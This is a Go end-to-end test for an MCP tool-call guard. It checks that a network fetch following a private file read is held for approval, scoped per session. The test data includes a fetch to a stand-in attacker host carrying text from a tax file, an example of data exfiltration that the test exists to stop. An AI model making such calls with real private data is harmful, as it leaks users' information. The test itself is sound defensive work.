package main

import (
	"encoding/json"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// Information flow under 2026-07-28 (issues 20 and 21): a stateless host's
// label scope is the one its limits and approvals have. Over stdio that is
// the connection; over HTTP it is the bearer token's holder, across all its
// stateless requests and connections, and apart from every legacy HTTP
// session of the same serve.

// scopeView is one scope as `mcp-guard sessions --json` lists it.
type scopeView struct {
	Scope    string `json:"scope"`
	Sessions []struct {
		Host  string `json:"host"`
		Alive bool   `json:"alive"`
	} `json:"sessions"`
	Labels []struct {
		Label string `json:"label"`
		Call  int64  `json:"call"`
	} `json:"labels"`
}

// scopes is what `mcp-guard sessions --json` lists.
func (e *env) scopes(cfg string) []scopeView {
	e.t.Helper()
	out, code := e.mcpGuard("sessions", "--json", "--config", cfg)
	if code != 0 {
		e.t.Fatalf("sessions: exit %d\n%s", code, out)
	}
	var v []scopeView // one JSON object per line
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if line == "" {
			continue
		}
		var s scopeView
		if err := json.Unmarshal([]byte(line), &s); err != nil {
			e.t.Fatalf("sessions --json: %v\n%s", err, out)
		}
		v = append(v, s)
	}
	return v
}

// holdingFrom is the scope holding label from call, and the hosts of its
// live sessions.
func holdingFrom(scopes []scopeView, label string, call int64) (string, []string) {
	for _, s := range scopes {
		for _, l := range s.Labels {
			if l.Label == label && l.Call == call {
				var hosts []string
				for _, ss := range s.Sessions {
					if ss.Alive {
						hosts = append(hosts, ss.Host)
					}
				}
				return s.Scope, hosts
			}
		}
	}
	return "", nil
}

// heldNaming checks that res is the held (then undecided) network call
// naming the read of path as ledger call n.
func heldNaming(t *testing.T, what string, res *mcp.CallToolResult, err error, n, path string) {
	t.Helper()
	want := regexp.MustCompile(`private since call ` + n + `: fs/read_text_file \{"path":"` + regexp.QuoteMeta(path) + `"\}`)
	if err != nil || res == nil || !res.IsError || !want.MatchString(resultText(res)) || !strings.Contains(resultText(res), "approval") {
		t.Fatalf("%s: not held naming call %s: %v %+v", what, n, err, res)
	}
}

// Proves F1 and F3 for a stateless stdio host: a labelled read in one
// 2026-07-28 request holds a network call in a later one, naming the read;
// the scope `sessions` shows is the connection's serve; a fresh serve (a
// new scope) runs the call; verify passes.
func TestFlows_E2E_ModernStdio(t *testing.T) {
	fs := newFlowSetup(t)
	e := fs.e
	cfg := e.config(fs.servers, fs.rules)
	var elicited atomic.Int32
	h := e.connectModern(cfg, modernClient(&elicited, true))
	if v := h.InitializeResult().ProtocolVersion; v != modernVersion {
		t.Fatalf("negotiated %q, want %s", v, modernVersion)
	}
	if res, err := h.call(t, "fs__read_text_file", map[string]any{"path": fs.taxes}); err != nil || res.IsError || !strings.Contains(resultText(res), "income") {
		t.Fatalf("read: %v %+v", err, res)
	}
	res, err := h.call(t, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"})
	heldNaming(t, "fetch after the read", res, err, "1", fs.taxes)
	if n := e.toolCallsOf("web", "fetch"); n != 0 {
		t.Fatalf("the held fetch reached the upstream %d times", n)
	}
	scope, hosts := holdingFrom(e.scopes(cfg), "private", 1)
	if !strings.HasPrefix(scope, "session:") || len(hosts) != 1 || hosts[0] != "stdio" {
		t.Fatalf("scope holding private: %q, live sessions %v", scope, hosts)
	}
	h2 := e.connectModern(cfg, modernClient(&elicited, true))
	if res, err := h2.call(t, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"}); err != nil || res.IsError {
		t.Fatalf("fetch from a fresh serve: %v %q", err, resultText(res))
	}
	if n := e.toolCallsOf("web", "fetch"); n != 1 {
		t.Fatalf("the fresh serve's fetch reached the upstream %d times", n)
	}
	if out, code := e.mcpGuard("verify", "--config", cfg); code != 0 {
		t.Fatalf("verify (exit %d):\n%s", code, out)
	}
}
